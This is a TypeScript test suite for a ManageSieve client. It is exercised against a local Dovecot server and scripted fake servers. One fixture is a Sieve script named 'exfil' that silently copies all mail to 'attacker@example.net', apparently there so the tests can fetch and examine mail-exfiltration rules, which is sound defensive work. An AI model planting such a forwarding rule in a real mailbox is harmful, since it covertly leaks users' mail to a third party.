import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import tls from 'node:tls';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ManageSieveClient, parseResponseLine, withManageSieve, type ManageSieveOptions } from '../../../connectors/imap/managesieve.js';
import { SourceError } from '../../../src/errors.js';
import { startDovecot, type DovecotServer } from '../../helpers/dovecot.js';

let dovecot: DovecotServer;
let secure: DovecotServer;

beforeAll(async () => {
  [dovecot, secure] = await Promise.all([startDovecot(), startDovecot({ tls: true })]);
});
afterAll(async () => {
  await Promise.all([dovecot?.dispose(), secure?.dispose()]);
});

function opts(over: Partial<ManageSieveOptions> = {}): ManageSieveOptions {
  return { host: dovecot.host, port: dovecot.sievePort, tls: false, user: 'alice', password: 'alice-pw', ...over };
}

async function rejection(p: Promise<unknown>): Promise<SourceError> {
  const err = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(SourceError);
  return err as SourceError;
}

describe('ManageSieve client against Dovecot', () => {
  it('reads capabilities, lists scripts with the active one, and fetches scripts byte for byte', async () => {
    const fwd = 'require ["copy"];\r\n# Weiterleitung für Ärzte\r\nredirect :copy "attacker@example.net";\r\n';
    const other = 'if header :contains "subject" "{5}" { discard; }\n';
    await dovecot.doveadm(['sieve', 'put', '-u', 'alice', 'other'], other);
    await dovecot.doveadm(['sieve', 'put', '-u', 'alice', '-a', 'exfil'], fwd);
    const result = await withManageSieve(opts(), async (c) => {
      expect(c.capabilities.get('IMPLEMENTATION')).toMatch(/Pigeonhole/);
      expect(c.capabilities.get('SIEVE')).toMatch(/fileinto/);
      const list = await c.listScripts();
      return { list, fwd: await c.getScript('exfil'), other: await c.getScript('other') };
    });
    expect(result.list.sort((a, b) => a.name.localeCompare(b.name))).toEqual([
      { name: 'exfil', active: true },
      { name: 'other', active: false },
    ]);
    expect(result.fwd).toBe(fwd);
    expect(result.other).toBe(other);
  });

  it('logs in as a master user (user*master) and sees that user’s scripts', async () => {
    await dovecot.doveadm(['sieve', 'put', '-u', 'bob', '-a', 'fwd'], 'redirect "x@example.net";\n');
    const list = await withManageSieve(opts({ user: `bob*${dovecot.master.user}`, password: dovecot.master.password }), (c) => c.listScripts());
    expect(list).toEqual([{ name: 'fwd', active: true }]);
  });

  it('an account without scripts lists nothing', async () => {
    expect(await withManageSieve(opts({ user: 'carol', password: 'carol-pw' }), (c) => c.listScripts())).toEqual([]);
  });

  it('a wrong password is SOURCE_UNAUTHORIZED and the error never holds the password', async () => {
    const password = 'Sup3r-secret-guess';
    // From another loopback address: Dovecot's auth penalty would slow every later login from 127.0.0.1.
    const err = await rejection(ManageSieveClient.connect(opts({ password, localAddress: '127.0.0.2' })));
    expect(err.code).toBe('SOURCE_UNAUTHORIZED');
    expect(err.message).toMatch(/AUTHENTICATE PLAIN refused: NO/);
    const b64 = Buffer.from(`\0alice\0${password}`).toString('base64');
    for (const leak of [password, b64]) expect(`${err.message} ${String(err.stack)}`).not.toContain(leak);
  });

  it('a missing script is SOURCE_FAILED naming the command', async () => {
    const err = await rejection(withManageSieve(opts(), (c) => c.getScript('nope "quoted\\')));
    expect(err.code).toBe('SOURCE_FAILED');
    expect(err.message).toMatch(/GETSCRIPT refused: NO \(NONEXISTENT\)/);
  });

  it('upgrades with STARTTLS and reads the capabilities re-issued over TLS', async () => {
    await secure.doveadm(['sieve', 'put', '-u', 'alice', '-a', 'tls'], 'keep;\n');
    const list = await withManageSieve(
      { host: secure.host, port: secure.sievePort, tls: 'starttls', user: 'alice', password: 'alice-pw', ca: secure.caPem! },
      async (c) => {
        expect(c.capabilities.has('STARTTLS')).toBe(false);
        return c.listScripts();
      },
    );
    expect(list).toEqual([{ name: 'tls', active: true }]);
  });

  it('refuses STARTTLS with an untrusted certificate, and a server without STARTTLS', async () => {
    const untrusted = await rejection(ManageSieveClient.connect({ host: secure.host, port: secure.sievePort, tls: 'starttls', user: 'alice', password: 'alice-pw' }));
    expect(untrusted.message).toMatch(/TLS handshake failed \(DEPTH_ZERO_SELF_SIGNED_CERT|SELF_SIGNED/);
    const noTls = await rejection(ManageSieveClient.connect(opts({ tls: 'starttls' })));
    expect(noTls.message).toMatch(/does not offer STARTTLS/);
  });

  it('a refused connection is SOURCE_FAILED', async () => {
    const port = await closedPort();
    const err = await rejection(ManageSieveClient.connect(opts({ port })));
    expect(err.code).toBe('SOURCE_FAILED');
    expect(err.message).toMatch(/cannot connect \(ECONNREFUSED\)/);
  });
});

describe('ManageSieve client against scripted servers', () => {
  const servers: net.Server[] = [];
  afterAll(() => Promise.all(servers.map((s) => new Promise((r) => s.close(r)))));

  /** A server that runs `onConnection` per client; plain TCP, or TLS with the TLS Dovecot's certificate. */
  async function fakeServer(onConnection: (sock: net.Socket) => void, useTls = false): Promise<number> {
    const server = useTls
      ? tls.createServer({ cert: secure.caPem!, key: fs.readFileSync(path.join(secure.dir, 'key.pem')) }, onConnection)
      : net.createServer(onConnection);
    servers.push(server);
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    return (server.address() as net.AddressInfo).port;
  }

  const GREETING = '"IMPLEMENTATION" "fake"\r\n"SASL" "PLAIN"\r\n"VERSION" "1.0"\r\nOK "ready"\r\n';

  /** Answers each command line with the next scripted answer. */
  function scripted(answers: string[], seen: string[] = []) {
    return (sock: net.Socket) => {
      sock.write(GREETING);
      let buf = '';
      sock.on('data', (d: Buffer) => {
        buf += d.toString();
        let nl: number;
        while ((nl = buf.indexOf('\r\n')) >= 0) {
          seen.push(buf.slice(0, nl));
          buf = buf.slice(nl + 2);
          const a = answers.shift();
          if (a !== undefined) sock.write(a);
        }
      });
      sock.on('error', () => undefined);
    };
  }

  it('speaks implicit TLS when tls is true, and sends PLAIN with an empty authzid', async () => {
    const seen: string[] = [];
    const port = await fakeServer(scripted(['OK\r\n', '"a b" ACTIVE\r\n"c"\r\nOK\r\n', 'OK "bye"\r\n'], seen), true);
    const list = await withManageSieve({ host: '127.0.0.1', port, tls: true, user: 'alice*monitor', password: 'pw', ca: secure.caPem! }, (c) => c.listScripts());
    expect(list).toEqual([
      { name: 'a b', active: true },
      { name: 'c', active: false },
    ]);
    expect(seen[0]).toBe(`AUTHENTICATE "PLAIN" "${Buffer.from('\0alice*monitor\0pw').toString('base64')}"`);
    expect(seen.slice(1)).toEqual(['LISTSCRIPTS', 'LOGOUT']);
  });

  it('times out on a server that never greets, and on a command that is never answered', async () => {
    const silent = await fakeServer((s) => s.on('error', () => undefined));
    const greet = await rejection(ManageSieveClient.connect(opts({ host: '127.0.0.1', port: silent, connectTimeoutMs: 100 })));
    expect(greet.message).toMatch(/no answer to the greeting within 100 ms/);

    const mute = await fakeServer(scripted(['OK\r\n']));
    const client = await ManageSieveClient.connect(opts({ host: '127.0.0.1', port: mute, commandTimeoutMs: 100 }));
    const err = await rejection(client.listScripts());
    expect(err.message).toMatch(/no answer to LISTSCRIPTS within 100 ms/);
    await client.logout();
  });

  it('fails cleanly on BYE, on a hostile literal size and on a server without PLAIN', async () => {
    const bye = await fakeServer(scripted(['OK\r\n', 'BYE "Shutting down"\r\n']));
    const c1 = await ManageSieveClient.connect(opts({ host: '127.0.0.1', port: bye }));
    expect((await rejection(c1.listScripts())).message).toMatch(/LISTSCRIPTS refused: BYE Shutting down/);
    c1.close();

    const huge = await fakeServer(scripted(['OK\r\n', '{99999999999}\r\n']));
    const c2 = await ManageSieveClient.connect(opts({ host: '127.0.0.1', port: huge }));
    expect((await rejection(c2.getScript('x'))).message).toMatch(/unreadable response \(malformed literal\)/);
    c2.close();

    const noPlain = await fakeServer((s) => s.write('"SASL" "GSSAPI"\r\nOK\r\n'));
    expect((await rejection(ManageSieveClient.connect(opts({ host: '127.0.0.1', port: noPlain })))).message).toMatch(/does not offer SASL PLAIN over a plain connection/);
  });
});

describe('parseResponseLine', () => {
  const line = (s: string | Buffer) => parseResponseLine(Buffer.isBuffer(s) ? s : Buffer.from(s, 'utf8'));

  it('reads atoms, quoted strings with escapes, response codes and literals that hold CRLFs', () => {
    expect(line('"a \\"b\\" \\\\c" ACTIVE\r\nnext')).toEqual({
      items: [
        { kind: 'string', value: 'a "b" \\c' },
        { kind: 'atom', value: 'ACTIVE' },
      ],
      consumed: 22,
    });
    expect(line('NO (NONEXISTENT) "gone"\r\n')!.items).toEqual([
      { kind: 'atom', value: 'NO' },
      { kind: 'paren', value: '(' },
      { kind: 'atom', value: 'NONEXISTENT' },
      { kind: 'paren', value: ')' },
      { kind: 'string', value: 'gone' },
    ]);
    const body = 'a\r\nb ü';
    const lit = Buffer.from(`{${Buffer.byteLength(body)}}\r\n${body}\r\nOK\r\n`);
    expect(line(lit)).toEqual({ items: [{ kind: 'string', value: body }], consumed: lit.length - 4 });
  });

  it('waits for more bytes on every incomplete prefix, whatever the split', () => {
    const full = Buffer.from('{5}\r\nab\r\nc "q\\"x" (CODE) atom\r\n');
    for (let k = 0; k < full.length; k++) expect(line(full.subarray(0, k))).toBeUndefined();
    expect(line(full)!.consumed).toBe(full.length);
  });

  it('rejects broken framing instead of looping', () => {
    expect(() => line('OK\rX\r\n')).toThrow(/bare CR or LF/);
    expect(() => line('OK\nX\r\n')).toThrow(/bare CR or LF/);
    expect(() => line('"a\r\nb"\r\n')).toThrow(/line break/);
    expect(() => line('{abc}\r\n')).toThrow(/malformed literal/);
    expect(() => line('{3}xx\r\n')).toThrow(/not followed by CRLF/);
    expect(() => line(`${'a'.repeat(70_000)}\r\n`)).toThrow(/too long/);
  });
});

async function closedPort(): Promise<number> {
  const s = net.createServer();
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  const port = (s.address() as net.AddressInfo).port;
  await new Promise((r) => s.close(r));
  return port;
}
